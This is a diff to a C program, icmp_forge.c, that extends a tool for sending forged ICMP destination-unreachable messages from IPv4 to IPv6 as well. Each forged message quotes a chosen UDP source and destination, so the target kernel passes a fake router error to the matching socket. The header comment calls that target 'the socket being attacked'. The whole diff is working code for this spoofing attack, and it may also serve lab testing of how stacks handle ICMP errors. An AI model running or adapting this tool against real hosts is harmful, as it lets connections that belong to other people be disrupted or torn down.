@@ -1,7 +1,8 @@
-/* icmp_forge.c: sends forged ICMPv4 destination-unreachable messages (RFC 792) that
- * quote a UDP datagram from SRC:SPORT to DST:DPORT, as a router would, so the kernel
- * hands the error to the UDP socket of that 5-tuple (RFC 1122 4.1.3.3). Needs a raw
- * socket: root, or CAP_NET_RAW in a network namespace of one's own (unshare -rn).
+/* icmp_forge.c: sends forged destination-unreachable messages, ICMPv4 (RFC 792) or
+ * ICMPv6 (RFC 4443 §3.1) by the addresses' family, that quote a UDP datagram from
+ * SRC:SPORT to DST:DPORT, as a router would, so the kernel hands the error to the UDP
+ * socket of that 5-tuple (RFC 1122 4.1.3.3). Needs a raw socket: root, or CAP_NET_RAW in
+ * a network namespace of one's own (unshare -rn).
  * Usage: icmp_forge SRC SPORT DST DPORT CODE[,CODE...] COUNT INTERVAL_MS
  * Sends COUNT messages, cycling through the codes, INTERVAL_MS apart, to SRC (the
  * socket being attacked). Prints how many of each code were sent. */
@@ -50,6 +51,44 @@ static long number(const char *s, long lo, long hi, const char *what)
     return v;
 }
 
+static void pause_ms(long ms)
+{
+    struct timespec ts = { ms / 1000, (ms % 1000) * 1000000L };
+    nanosleep(&ts, NULL);
+}
+
+/* ICMPv6 destination unreachable (type 1): its header (8; the kernel fills the checksum
+ * of a raw ICMPv6 socket), the quoted IPv6 header (40) and the UDP header (8). */
+static int forge6(int fd, const struct in6_addr *src, const struct in6_addr *dst, uint16_t sport,
+                  uint16_t dport, const int *codes, int ncodes, long *sent, long count, long gap_ms)
+{
+    uint8_t m[8 + 40 + 8];
+    struct sockaddr_in6 to = { .sin6_family = AF_INET6, .sin6_addr = *src };
+    for (long i = 0; i < count; i++) {
+        memset(m, 0, sizeof m);
+        m[0] = 1;
+        m[1] = (uint8_t)codes[i % ncodes];
+        uint8_t *ip = m + 8;
+        ip[0] = 0x60;          /* version 6 */
+        put16(ip + 4, 8 + 12); /* payload: the UDP header and 12 bytes */
+        ip[6] = IPPROTO_UDP;
+        ip[7] = 64;
+        memcpy(ip + 8, src, 16);
+        memcpy(ip + 24, dst, 16);
+        uint8_t *udp = ip + 40;
+        put16(udp, sport);
+        put16(udp + 2, dport);
+        put16(udp + 4, 8 + 12);
+        if (sendto(fd, m, sizeof m, 0, (struct sockaddr *)&to, sizeof to) != (ssize_t)sizeof m) {
+            fprintf(stderr, "icmp_forge: sendto: %s\n", strerror(errno));
+            return 1;
+        }
+        sent[i % ncodes]++;
+        pause_ms(gap_ms);
+    }
+    return 0;
+}
+
 int main(int argc, char **argv)
 {
     if (argc != 8) {
@@ -57,8 +96,12 @@ int main(int argc, char **argv)
         return 2;
     }
     struct in_addr src, dst;
-    if (inet_pton(AF_INET, argv[1], &src) != 1 || inet_pton(AF_INET, argv[3], &dst) != 1) {
-        fprintf(stderr, "icmp_forge: SRC and DST are IPv4 addresses\n");
+    struct in6_addr src6, dst6;
+    int v6 = 0;
+    if (inet_pton(AF_INET6, argv[1], &src6) == 1 && inet_pton(AF_INET6, argv[3], &dst6) == 1) {
+        v6 = 1;
+    } else if (inet_pton(AF_INET, argv[1], &src) != 1 || inet_pton(AF_INET, argv[3], &dst) != 1) {
+        fprintf(stderr, "icmp_forge: SRC and DST are both IPv4 or both IPv6 addresses\n");
         return 2;
     }
     uint16_t sport = (uint16_t)number(argv[2], 1, 65535, "SPORT");
@@ -72,10 +115,18 @@ int main(int argc, char **argv)
     long count = number(argv[6], 1, 100000, "COUNT");
     long gap_ms = number(argv[7], 0, 10000, "INTERVAL_MS");
 
-    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
+    int fd =
+        v6 ? socket(AF_INET6, SOCK_RAW, IPPROTO_ICMPV6) : socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
     if (fd < 0) {
         fprintf(stderr, "icmp_forge: raw socket: %s\n", strerror(errno));
         return 1;
+    }
+    if (v6) {
+        int rc = forge6(fd, &src6, &dst6, sport, dport, codes, ncodes, sent, count, gap_ms);
+        close(fd);
+        for (int k = 0; rc == 0 && k < ncodes; k++)
+            printf("code %d: %ld sent\n", codes[k], sent[k]);
+        return rc;
     }
 
     /* ICMP header (8) + the quoted IPv4 header (20) + the first 8 bytes of the datagram:
@@ -106,8 +157,7 @@ int main(int argc, char **argv)
             return 1;
         }
         sent[i % ncodes]++;
-        struct timespec ts = { gap_ms / 1000, (gap_ms % 1000) * 1000000L };
-        nanosleep(&ts, NULL);
+        pause_ms(gap_ms);
     }
     close(fd);
     for (int k = 0; k < ncodes; k++)
